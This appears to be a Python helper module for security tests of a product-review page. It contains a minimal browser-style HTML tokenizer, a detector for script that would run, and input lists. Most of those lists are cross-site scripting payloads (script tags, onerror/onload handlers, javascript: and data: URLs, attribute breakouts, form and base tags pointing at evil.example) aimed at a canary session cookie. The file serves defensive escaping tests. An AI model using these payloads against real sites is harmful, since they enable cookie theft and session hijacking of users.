"""A browser as far as this page needs one, reviews of honest customers, and what an attacker types.

Owns: reading HTML as a browser does (states of the HTML standard, 13.2.5), what would run on a page, and the inputs.
"""

from __future__ import annotations

import html
import re
from html.entities import html5

COOKIE = "session=canary-7f3a"
STEAL = "steal(document.cookie)"

PRODUCT = "Tent"
REVIEWS = [
    {"author": "Ann", "site": "https://ann.example/", "text": "Dry for a week."},
    {"author": "Bob", "site": "http://bob.example/tents", "text": "Too heavy."},
]

#: Typed by honest customers, and to be shown as it was typed.
HONEST_TEXTS = [
    "O'Brien's \"Tent\"",
    "2 < 3 && 4 > 3",
    "&lt;b&gt; is how you write <b>",
    "Fish & Chips &copy; &amp;amp;",
    "if (a<b) { c }",
    "",
    "{author} {0} %s $name",
    "Écru – naïve ☕",
    "a\\u003cb </p> <!-- no comment -->",
    "line one\nline two",
    "  between two spaces  ",
    "&#60;b&#62; and &#x3c; are characters by number",
    "&lt b &copy 2026 &notit;",
    "non-breaking\u00a0space, zero\u200dwidth, soft\u00adhyphen, e\u0308, \u2028",
    "👩\u200d💻 likes 🏕️",
    "C:\\new\\table \\1 \\g<0>",
    "$$ $product ${product} %(text)s @ITEMS@",
    "/static/chart.js",
    "long " * 3000,
    "\n\ta line break and a tab before it\n",
    " ",
]

#: Typed by an attacker, for places between tags.
TEXT_ATTACKS = [
    f"<script>{STEAL}</script>",
    f"<ScRiPt >{STEAL}</sCrIpT >",
    f"<scr<script>ipt>{STEAL}</scr</script>ipt>",
    f"<img src=x onerror={STEAL}>",
    f"<svg/onload={STEAL}>",
    f"<details open ontoggle={STEAL}>",
    f"</p><iframe src=javascript:{STEAL}>",
    f"</title><script>{STEAL}</script>",
    f"</h1></a><script\n>{STEAL}</script\n>",
    f"<a href=javascript:{STEAL}>win</a>",
    f"<<img src=x onerror={STEAL}//",
    f"<!--><img src=x onerror={STEAL}>-->",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<plaintext>",
]

#: For attribute values.
ATTRIBUTE_ATTACKS = [
    f'" onmouseover="{STEAL}',
    f'"><script>{STEAL}</script>',
    f"' onmouseover='{STEAL}",
    f"'><img src=x onerror={STEAL}>",
    f" onmouseover={STEAL} ",
    f"` onmouseover={STEAL}",
    f'"/onfocus={STEAL} autofocus="',
    f'&quot; onmouseover=&quot;{STEAL}',
]

#: No web addresses.
SITE_ATTACKS = [
    "",
    f"javascript:{STEAL}",
    f"JavaScript:{STEAL}",
    f"java\tscript:{STEAL}",
    f"java\nscript:{STEAL}",
    f" javascript:{STEAL}",
    f"\x01javascript:{STEAL}",
    f"javascript://https://x.example/%0a{STEAL}",
    f"javascript:{STEAL}//\nhttp://ann.example/",
    f"&#106;avascript:{STEAL}",
    f"data:text/html,<script>{STEAL}</script>",
    f"vbscript:{STEAL}",
    " https://ann.example/",
    "\thttps://ann.example/",
    "see https://ann.example/",
    "https:javascript",
    "https:/ann.example",
    "httpsx://x.example/",
    "//evil.example/",
    "/logout",
    "ftp://ann.example/",
    "ann.example",
]

#: Web addresses, and all of them are linked to as they were typed.
SITES = [
    "http://ann.example/",
    "HTTPS://Ann.Example/",
    "hTTp://ann.example/",
    "http://",
    "https://ann.example/in two\nlines",
    "https://ann.example/?a=1&b=2&copy=3&lt;4",
    "https://ann.example/it's?q=\"x\"",
    f'https://x.example/" onmouseover="{STEAL}',
    f'https://x.example/"><img src=x onerror={STEAL}>',
    f"https://x.example/' onmouseover='{STEAL}",
    "https://ann.example/%22%3E?next=javascript:",
    "https://ann.example/Écru page ",
]

#: For data inside of a script element.
DATA_ATTACKS = [
    f"</script><script>{STEAL}</script>",
    f"</SCRIPT ><img src=x onerror={STEAL}>",
    f"</script/x><svg onload={STEAL}>",
    "<!--<script>",
    "<!-- <script ",
    "-->",
    f"&lt;/script&gt;{STEAL}",
    "&quot;&amp;\\",
    "\u2028\u2029",
]

#: Products that mean something to the query of an address.
PRODUCTS = ["A&B", "Tent & Rope", "C#", "100%", "a+b", "what?", "x=1", "50%25", "cut/../up", "Écru", "A&q=B", "&amp;", "a;b"]


def read(page: str) -> list[tuple]:
    """The page as a browser's tokenizer gives it: ("start", tag, attributes), ("end", tag), ("text", text)."""
    found: list[tuple] = []
    at, size = 0, len(page)

    def text(value: str) -> None:
        if value:
            if found and found[-1][0] == "text":
                found[-1] = ("text", found[-1][1] + value)
            else:
                found.append(("text", value))

    while at < size:
        if page[at] != "<":
            end = page.find("<", at)
            end = size if end < 0 else end
            text(html.unescape(page[at:end]))
            at = end
        elif page.startswith("<!--", at):
            end = re.compile(r"--!?>").search(page, at + 2)
            at = end.end() if end else size
        elif re.match(r"<[!?]|</[^a-zA-Z>]", page[at : at + 3]):
            end = page.find(">", at)
            at = size if end < 0 else end + 1
        elif page.startswith("</>", at):
            at += 3
        elif name := re.compile(r"</?([a-zA-Z][^\t\n\f />]*)").match(page, at):
            tag = name.group(1).lower()
            closing = page[at + 1] == "/"
            read_to = _attributes(page, name.end())
            if read_to is None:  # the page ends within the tag
                break
            at, attributes = read_to
            found.append(("end", tag) if closing else ("start", tag, attributes))
            if not closing and tag in ("script", "style", "title", "textarea", "plaintext"):
                inner, at = _raw(page, at, tag)
                text(html.unescape(inner) if tag in ("title", "textarea") else inner)
        else:
            text("<")
            at += 1
    return found


def _attributes(page: str, at: int) -> tuple[int, dict[str, str]] | None:
    """The attributes of a tag and where it ends; None if it does not."""
    found: dict[str, str] = {}
    part = re.compile(r"""[\t\n\f\r /]*(?:(>)|([^\t\n\f\r />][^\t\n\f\r />=]*)(?:[\t\n\f\r ]*=[\t\n\f\r ]*(?:"([^"]*)"|'([^']*)'|([^\t\n\f\r >"'][^\t\n\f\r >]*)))?)""")
    while match := part.match(page, at):
        at = match.end()
        if match.group(1):
            return at, found
        value = next((group for group in match.groups()[2:] if group is not None), "")
        value = re.sub(r"&([a-zA-Z0-9]+)([=;]?)", _in_attribute, value)
        found.setdefault(match.group(2).lower(), html.unescape(value))
    return None


def _in_attribute(match: re.Match[str]) -> str:
    """In an attribute, `&copy=1` and `&copyright` are no characters: what looks like one there needs its semicolon."""
    name, end = match.groups()
    known = f"{name};" in html5 if end == ";" else name in html5 and end != "="
    return match.group() if known else match.group().replace("&", "&amp;")


def _raw(page: str, at: int, tag: str) -> tuple[str, int]:
    """What stands inside of an element whose content is no markup, and where its end tag begins."""
    if tag == "plaintext":
        return page[at:], len(page)
    start, state = at, "data"
    parts = re.compile(rf"<!--|-->|</{tag}(?=[\t\n\f\r />])|<script(?=[\t\n\f\r />])", re.IGNORECASE)
    while match := parts.search(page, at):
        word, at = match.group().lower(), match.end()
        if word == "<!--":
            if tag == "script" and state == "data":
                state = "escaped"
                at -= 2
        elif word == "-->":
            state = "data"
        elif word == "<script" and tag != "script" or word == "<script" and state == "data":
            continue
        elif word == "<script":
            state = "double"
        elif state == "double":
            state = "escaped"
        else:
            return page[start : match.start()], match.start()
    return page[start:], len(page)


def ran(tokens: list[tuple]) -> list[str]:
    """Everything that runs in the browser of a reader who looks around and clicks, apart from the page's own chart."""
    found = []
    for place, token in enumerate(tokens):
        if token[0] != "start":
            continue
        _, tag, attributes = token
        if tag == "script" and attributes.get("type", "text/javascript") != "application/json":
            inner = tokens[place + 1][1] if place + 1 < len(tokens) and tokens[place + 1][0] == "text" else ""
            if attributes.get("src") != "/static/chart.js":
                found.append(attributes.get("src") or inner)
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(value)
            elif name in ("href", "src", "action", "formaction"):
                address = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33)))).lower()
                if address.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(value)
    return found


def from_the_data_on(tokens: list[tuple]) -> list[tuple]:
    """The script element with the id `reviews` and what follows; nothing if it is not there."""
    return next((tokens[place:] for place, token in enumerate(tokens) if token[0] == "start" and token[2].get("id") == "reviews"), [])


def elements(tokens: list[tuple]) -> list[str]:
    """The start tags, each with the names of its attributes: `a href title`."""
    return [" ".join([token[1], *sorted(token[2])]) for token in tokens if token[0] == "start"]


def inside(tokens: list[tuple], tag: str, number: int = 0) -> str:
    """The text of the element that is the `number`-th of its tag, up to its next tag."""
    places = [place for place, token in enumerate(tokens) if token[0] == "start" and token[1] == tag]
    if number >= len(places):
        return ""
    place = places[number] + 1
    return tokens[place][1] if place < len(tokens) and tokens[place][0] == "text" else ""


def attribute(tokens: list[tuple], tag: str, name: str, number: int = 0) -> str | None:
    """The value of an attribute of the `number`-th element of its tag."""
    found = [token[2] for token in tokens if token[0] == "start" and token[1] == tag]
    return found[number].get(name) if number < len(found) else None
